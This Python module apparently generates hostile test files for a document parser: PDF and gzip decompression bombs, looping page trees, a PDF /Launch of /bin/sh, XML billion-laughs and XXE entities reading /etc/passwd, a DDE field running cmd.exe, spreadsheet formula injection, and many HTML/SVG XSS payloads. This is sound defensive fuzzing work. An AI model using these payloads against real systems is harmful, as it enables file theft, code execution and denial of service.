"""PDF, office files, XML, HTML and WARC that loop, nest, expand, lie or try to fetch and run things."""

from __future__ import annotations

import gzip
import io
import random
import zipfile
import zlib
from collections.abc import Iterator

from .archives import one, zipped

Made = Iterator[tuple[str, bytes]]

SCRIPT = "<script>window.__xss=1</script><img src=x onerror='window.__xss=1'><svg onload='window.__xss=1'>"
LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    + "]>"
)
QUADRATIC = '<!DOCTYPE l [<!ENTITY a "' + "x" * 100_000 + '">]>'
XXE = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
REMOTE = '<!DOCTYPE l SYSTEM "http://198.51.100.1/x.dtd">'
PARAMETER = '<!DOCTYPE l [<!ENTITY % a SYSTEM "http://198.51.100.1/x.dtd"> %a;]>'


def pdf(objects: list[bytes], *, trailer: bytes = b"<< /Root 1 0 R /Size 99 >>", xref: bool = True) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    at = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    return bytes(out + b"trailer\n" + trailer + b"\nstartxref\n%d\n%%%%EOF" % at)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def page(content: bytes, more: list[bytes] | None = None, extra: bytes = b"") -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>",
            content,
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *(more or []),
        ]
    )


def flated(size: int, times: int = 1) -> bytes:
    c = zlib.compressobj(9)
    data = b"".join([*(c.compress(bytes(1 << 20)) for _ in range(size >> 20)), c.flush()])
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return stream(data, b"/Filter [" + b"/FlateDecode " * times + b"]")


def pdfs(r: random.Random) -> Made:
    text = stream(b"BT /F 12 Tf 10 700 Td (hello 19900000001) Tj ET")
    good = page(text)
    yield "flate 200 MB.pdf", page(flated(200 << 20))
    yield "flate thrice 400 MB.pdf", page(flated(400 << 20, 3))
    yield "lzw ascii85 chain.pdf", page(stream(b"x" * 1000, b"/Filter [" + b"/ASCII85Decode " * 500 + b"]"))
    yield (
        "page tree loop.pdf",
        pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 9 >>"]),
    )
    yield (
        "page tree in two.pdf",
        pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 9 >>",
                b"<< /Type /Pages /Kids [2 0 R] /Count 9 /Parent 2 0 R >>",
            ]
        ),
    )
    yield "claims 2^31 pages.pdf", good.replace(b"/Count 1", b"/Count 2147483647")
    yield "claims minus one page.pdf", good.replace(b"/Count 1", b"/Count -1")
    kids = b" ".join(b"3 0 R" for _ in range(50_000))
    yield "one page 50000 times.pdf", good.replace(b"[3 0 R] /Count 1", b"[" + kids + b"] /Count 50000")
    yield (
        "deep page tree.pdf",
        pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                *(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (i + 3) for i in range(3000)),
            ]
        ),
    )
    yield "length refers to itself.pdf", page(b"<< /Length 4 0 R >>\nstream\nx\nendstream")
    yield "xref loop.pdf", good.replace(b"/Size 99", b"/Size 99 /Prev %d" % good.index(b"xref"))
    yield "prev far away.pdf", good.replace(b"/Size 99", b"/Size 99 /Prev 999999999999")
    yield "no xref.pdf", pdf([b"<< /Type /Catalog >>"], xref=False)
    yield "startxref beyond.pdf", good.replace(b"startxref\n", b"startxref\n9")
    yield "size 2^31.pdf", good.replace(b"/Size 99", b"/Size 2147483647")
    for depth in (100, 10_000, 300_000):
        yield f"arrays {depth} deep.pdf", page(text, extra=b"/X " + b"[" * depth + b"]" * depth)
        yield (
            f"dictionaries {depth} deep.pdf",
            page(text, extra=b"/X " + b"<</A " * depth + b"1" + b">>" * depth),
        )
    yield (
        "form draws itself.pdf",
        page(
            stream(b"/X Do"),
            [
                stream(
                    b"/X Do",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>",
                )
            ],
        ).replace(b"/Font <<", b"/XObject << /X 6 0 R >> /Font <<"),
    )
    yield "javascript.pdf", page(text, extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")
    yield "launch.pdf", page(text, extra=b"/OpenAction << /S /Launch /F (/bin/sh) >>")
    yield "uri.pdf", page(text, extra=b"/OpenAction << /S /URI /URI (http://198.51.100.1/) >>")
    yield (
        "encrypted.pdf",
        good.replace(
            b"/Size 99",
            b"/Size 99 /Encrypt << /Filter /Standard /V 1 /R 2 /O ("
            + b"a" * 32
            + b") /U ("
            + b"b" * 32
            + b") /P -1 >>",
        ),
    )
    yield (
        "unknown encryption.pdf",
        good.replace(b"/Size 99", b"/Size 99 /Encrypt << /Filter /Nobody /V 99 >>"),
    )
    for what, dictionary in (
        (
            "huge image",
            b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB",
        ),
        (
            "jbig2",
            b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode",
        ),
        ("jpx", b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /Filter /JPXDecode"),
        (
            "dct",
            b"/Type /XObject /Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
        ),
        (
            "ccitt",
            b"/Type /XObject /Subtype /Image /Width 99999 /Height 99999 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 99999 /Rows 99999 >>",
        ),
    ):
        yield (
            f"{what}.pdf",
            page(stream(b"/X Do"), [stream(r.randbytes(200), dictionary)]).replace(
                b"/Font <<", b"/XObject << /X 6 0 R >> /Font <<"
            ),
        )
    yield (
        "object stream of itself.pdf",
        page(text, [stream(b"6 0 7 10 << >> << >>", b"/Type /ObjStm /N 100000 /First 9 /Extends 6 0 R")]),
    )
    yield "a million operators.pdf", page(stream(b"q " * 1_000_000))
    yield "long string.pdf", page(stream(b"BT /F 9 Tf (" + b"(" * 100_000 + b")" * 100_000 + b") Tj ET"))
    yield (
        "bad tounicode.pdf",
        page(
            text,
            [
                stream(
                    b"begincmap 1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <00> <ffffffff> <0041> endbfrange"
                )
            ],
        ).replace(b"/BaseFont", b"/ToUnicode 6 0 R /BaseFont"),
    )
    yield (
        "embedded file.pdf",
        page(
            text,
            [stream(b"MZ" + bytes(100), b"/Type /EmbeddedFile")],
            b"/Names << /EmbeddedFiles << /Names [(../../x.exe) << /Type /Filespec /F (../../x.exe) /EF << /F 6 0 R >> >>] >> >>",
        ),
    )
    yield "pdf and zip.pdf", good + one("a.txt", b"x")
    yield (
        "markup as text.pdf",
        page(stream(b"BT /F 9 Tf 10 700 Td (" + SCRIPT.replace("(", "\\(").encode() + b") Tj ET")),
    )
    for i in range(12):
        spoilt = bytearray(good)
        for _ in range(1 + i):
            spoilt[r.randrange(9, len(spoilt))] = r.randrange(256)
        yield f"noise {i}.pdf", bytes(spoilt)
    for cut in (5, 9, 50, 200, len(good) - 40, len(good) - 5):
        yield f"cut at {cut}.pdf", good[:cut]
    yield "header only.pdf", b"%PDF-1.7"
    yield "newlines.pdf", b"%PDF-1.7\n" + b"\n" * 500_000
    yield "percent.pdf", b"%PDF-1.7\n" + b"%" * 500_000


TYPES = (
    '<?xml version="1.0"?>{0}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{0}"/></Relationships>'
)
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'


def office(main: str, parts: dict[str, str | bytes], doctype: str = "") -> bytes:
    def fill(z: zipfile.ZipFile) -> None:
        z.writestr("[Content_Types].xml", TYPES.format(doctype))
        z.writestr("_rels/.rels", RELS.format(main))
        for name, data in parts.items():
            z.writestr(name, data)

    return zipped(fill)


def docx(body: str, doctype: str = "") -> bytes:
    return office(
        "word/document.xml",
        {
            "word/document.xml": f'<?xml version="1.0"?>{doctype}<w:document {W}><w:body>{body}</w:body></w:document>'
        },
    )


def xlsx(rows: str, doctype: str = "", strings: str = "", dimension: str = "A1:B2", more: str = "") -> bytes:
    return office(
        "xl/workbook.xml",
        {
            "xl/workbook.xml": f'<?xml version="1.0"?><workbook {S}><sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
            "xl/sharedStrings.xml": f'<?xml version="1.0"?>{doctype}<sst {S}>{strings}</sst>',
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{doctype}<worksheet {S}><dimension ref="{dimension}"/><sheetData>{rows}</sheetData>{more}</worksheet>',
        },
    )


def offices(r: random.Random) -> Made:
    para = "<w:p><w:r><w:t>hello 19900000002</w:t></w:r></w:p>"
    row = '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c><c r="B1" t="inlineStr"><is><t>电话</t></is></c></row>'
    for what, doctype, reference in (
        ("laughs", LAUGHS, "&a11;"),
        ("quadratic", QUADRATIC, "&a;" * 10_000),
        ("external entity", XXE, "&a;"),
        ("remote dtd", REMOTE, "x"),
        ("parameter entity", PARAMETER, "x"),
    ):
        yield f"{what}.docx", docx(f"<w:p><w:r><w:t>{reference}</w:t></w:r></w:p>", doctype)
        yield (
            f"{what}.xlsx",
            xlsx(f'<row r="1"><c r="A1" t="inlineStr"><is><t>{reference}</t></is></c></row>', doctype),
        )
        yield f"{what} in types.docx", office("word/document.xml", {"word/document.xml": "<x/>"}, doctype)
        yield f"{what}.xml", f'<?xml version="1.0"?>{doctype}<l>{reference}</l>'.encode()
        yield (
            f"{what}.svg",
            f'<?xml version="1.0"?>{doctype}<svg xmlns="http://www.w3.org/2000/svg"><text>{reference}</text></svg>'.encode(),
        )
        yield (
            f"{what} rss.xml",
            f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel><title>{reference}</title><item><title>x</title></item></channel></rss>'.encode(),
        )
        yield (
            f"{what} sms.xml",
            f'<?xml version="1.0"?>{doctype}<smses count="1"><sms address="1" date="1" type="1" body="{reference}"/></smses>'.encode(),
        )
    yield "500000 paragraphs.docx", docx("<w:p/>" * 500_000)
    for depth in (300, 20_000, 200_000):
        yield (
            f"tables {depth} deep.docx",
            docx("<w:tbl><w:tr><w:tc>" * depth + "</w:tc></w:tr></w:tbl>" * depth),
        )
        yield f"{depth} deep.xml", b"<a>" * depth + b"</a>" * depth
    yield "a run of 20 MB.docx", docx("<w:p><w:r><w:t>" + "x" * (20 << 20) + "</w:t></w:r></w:p>")
    yield (
        "external template.docx",
        docx(para + '<w:attachedTemplate xmlns:r="x" r:id="http://198.51.100.1/t.dotm"/>'),
    )
    yield (
        "dde.docx",
        docx(
            '<w:p><w:fldSimple w:instr="DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;"/></w:p>'
        ),
    )
    yield "lying dimension.xlsx", xlsx(row, dimension="A1:XFD1048576")
    yield (
        "cell at the end.xlsx",
        xlsx(row + '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'),
    )
    yield (
        "cell beyond the end.xlsx",
        xlsx('<row r="99999999999"><c r="ZZZZZZZ99999999999" t="inlineStr"><is><t>x</t></is></c></row>'),
    )
    yield "row number minus one.xlsx", xlsx('<row r="-1"><c r="A-1"><v>1</v></c></row>')
    yield (
        "300000 rows.xlsx",
        xlsx("".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, 300_001))),
    )
    yield (
        "16384 columns.xlsx",
        xlsx('<row r="1">' + '<c t="inlineStr"><is><t>c</t></is></c>' * 16_384 + "</row>"),
    )
    yield (
        "shared string bomb.xlsx",
        xlsx(
            "".join(f'<row r="{i}"><c r="A{i}" t="s"><v>0</v></c></row>' for i in range(1, 3000)),
            strings="<si><t>" + "y" * 1_000_000 + "</t></si>",
        ),
    )
    yield "string that is not there.xlsx", xlsx('<row r="1"><c r="A1" t="s"><v>999999</v></c></row>')
    yield (
        "merged everything.xlsx",
        xlsx(row, more='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
    )
    yield (
        "formula.xlsx",
        xlsx(
            """<row r="1"><c r="A1" t="str"><f>HYPERLINK("http://198.51.100.1/"&amp;A2)</f><v>=cmd|' /C calc'!A0</v></c></row>"""
        ),
    )
    yield (
        "numbers.xlsx",
        xlsx(
            "".join(
                f'<row r="{i}"><c r="A{i}"><v>{v}</v></c></row>'
                for i, v in enumerate(("1e999", "-1e999", "NaN", "9" * 400, "1e-999", "", " ", "0x10"), 1)
            )
        ),
    )
    yield (
        "dates.xlsx",
        xlsx(
            "".join(
                f'<row r="{i}"><c r="A{i}" s="1"><v>{v}</v></c></row>'
                for i, v in enumerate((-1, 0, 60, 1e12, 2958466, -1e300), 1)
            )
        ),
    )
    for missing in ("xl/worksheets/sheet1.xml", "xl/workbook.xml", "[Content_Types].xml"):
        whole = zipfile.ZipFile(io.BytesIO(xlsx(row)))
        yield (
            f"without {missing.replace('/', ' ')}.xlsx",
            zipped(lambda z, w=whole, m=missing: [z.writestr(n, w.read(n)) for n in w.namelist() if n != m]),
        )
    for kind, main in (("pptx", "ppt/presentation.xml"), ("odt", "content.xml"), ("ods", "content.xml")):
        yield (
            f"laughs.{kind}",
            office(
                main,
                {
                    main: f'<?xml version="1.0"?>{LAUGHS}<l>&a11;</l>',
                    "mimetype": "application/vnd.oasis.opendocument.text",
                },
            ),
        )
    repeated = (
        '<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="t">'
        '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>'
    )

    def ods(z: zipfile.ZipFile) -> None:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", repeated)

    yield "repeated everywhere.ods", zipped(ods)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    yield "ole noise.doc", ole + r.randbytes(5000)
    yield "ole zeros.xls", ole + bytes(5000)
    yield "ole all ff.msg", ole + b"\xff" * 5000
    yield "ole loop.doc", _ole_loop()
    good = docx(para)
    for i in range(10):
        spoilt = bytearray(good)
        for _ in range(2 + 3 * i):
            spoilt[r.randrange(len(spoilt))] = r.randrange(256)
        yield f"noise {i}.docx", bytes(spoilt)
    for cut in (30, 300, len(good) // 2, len(good) - 10):
        yield f"cut at {cut}.docx", good[:cut]


def _ole_loop() -> bytes:
    """A compound file whose sector chain runs in a circle."""
    import struct

    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    head[24:34] = struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", head, 44, 1, 1, 0, 4096, 1, 0, 0xFFFFFFFE, 0, 0)
    struct.pack_into("<109I", head, 76, 0, *[0xFFFFFFFF] * 108)
    fat = struct.pack("<128I", 0xFFFFFFFD, 2, 1, *[3] * 125)
    directory = bytearray(512)
    directory[0:20] = "Root Entry".encode("utf-16le")
    struct.pack_into("<HBB", directory, 64, 22, 5, 0)
    struct.pack_into("<III", directory, 68, 0, 0, 0)
    return bytes(head) + fat + bytes(directory) + bytes(directory)


def pages(r: random.Random) -> Made:
    def html(body: str, head: str = "") -> bytes:
        return (
            f"<!doctype html><html><head><meta charset=utf-8>{head}</head><body>{body}</body></html>".encode()
        )

    for depth in (1_000, 50_000, 500_000):
        for tag in ("div", "b", "table", "a href=x"):
            yield f"{tag.split()[0]} {depth} deep.html", html(f"<{tag}>" * depth + "x")
    yield "100000 attributes.html", html("<p " + " ".join(f"a{i}=1" for i in range(100_000)) + ">x")
    yield "attribute of 5 MB.html", html("<p title='" + "x" * (5 << 20) + "'>y")
    yield "never closed comment.html", html("<!--" + "x" * 1_000_000)
    yield "never closed script.html", html("<script>" + "x" * 1_000_000)
    yield "plaintext.html", html("<plaintext>" + SCRIPT * 100)
    yield "a million entities.html", html("&amp;" * 1_000_000)
    yield "entity without end.html", html("&" + "a" * 1_000_000)
    for number, payload in enumerate(
        (
            SCRIPT,
            "<a href='javascript:window.__xss=1'>x</a>",
            "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
            "<meta http-equiv=refresh content='0;url=http://198.51.100.1/'>",
            "<base href='http://198.51.100.1/'><img src=x>",
            "<style>@import url(http://198.51.100.1/x.css);</style>",
            "<object data='data:text/html,<script>window.__xss=1</script>'></object>",
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.__xss=1&gt;'>",
            "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>",
            "<template><script>window.__xss=1</script></template>",
            "<form action='http://198.51.100.1/'><button>x</button></form>",
            "<svg><foreignObject><body onload='window.__xss=1'>",
            "<link rel=prefetch href='http://198.51.100.1/'>",
            "<video poster='http://198.51.100.1/'><source src='http://198.51.100.1/' onerror='window.__xss=1'></video>",
            "{{constructor.constructor('window.__xss=1')()}}",
            "<details open ontoggle='window.__xss=1'>",
        )
    ):
        yield f"payload {number}.html", html(payload + "<p>wechat: shili_heimai88</p>")
        yield f"payload {number}.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{payload}</svg>'.encode()
        yield (
            f"payload {number}.md",
            f"# {payload}\n\n[x](javascript:window.__xss=1) ![x](http://198.51.100.1/)\n".encode(),
        )
    for charset in (
        "utf-7",
        "iso-2022-cn",
        "x-user-defined",
        "utf-16",
        "gb18030",
        "hz-gb-2312",
        "no-such",
        "x" * 1000,
    ):
        yield (
            f"charset {charset[:16]}.html",
            b"<html><meta charset=" + charset.encode() + b">+ADw-script+AD4- \xff\xfe \x1b$)A~{VPND~}",
        )
    head = b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: http://x.example/\r\nContent-Type: application/http; msgtype=response\r\n"
    body = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>x</p>"
    for length in (b"0", b"-1", b"99999999999999", b"abc", b"", b"%d" % (len(body) - 9), b"1e9"):
        yield (
            f"length {length.decode()[:8] or 'none'}.warc",
            (head + b"Content-Length: " + length + b"\r\n\r\n" + body + b"\r\n\r\n") * 3,
        )
    whole = head + b"Content-Length: %d\r\n\r\n" % len(body) + body + b"\r\n\r\n"
    yield "20000 records.warc", whole * 20_000
    yield "headers of 5 MB.warc", head + b"X: " + b"y" * (5 << 20) + b"\r\n" + whole
    yield "gzip members.warc.gz", b"".join(gzip.compress(whole, mtime=0) for _ in range(300)) + b"\x1f\x8b"
    bomb = gzip.compress(bytes(100 << 20), mtime=0)
    packed = b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Type: text/html\r\n\r\n" + bomb
    yield "encoded bomb.warc", head + b"Content-Length: %d\r\n\r\n" % len(packed) + packed + b"\r\n\r\n"
    chunked = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\nx\r\n0\r\n\r\n"
    yield "chunked lie.warc", head + b"Content-Length: %d\r\n\r\n" % len(chunked) + chunked + b"\r\n\r\n"
    yield (
        "record of 100 MB.warc.gz",
        gzip.compress(head + b"Content-Length: 104857600\r\n\r\n" + bytes(100 << 20), mtime=0),
    )


def make(r: random.Random) -> Made:
    yield from pdfs(r)
    yield from offices(r)
    yield from pages(r)
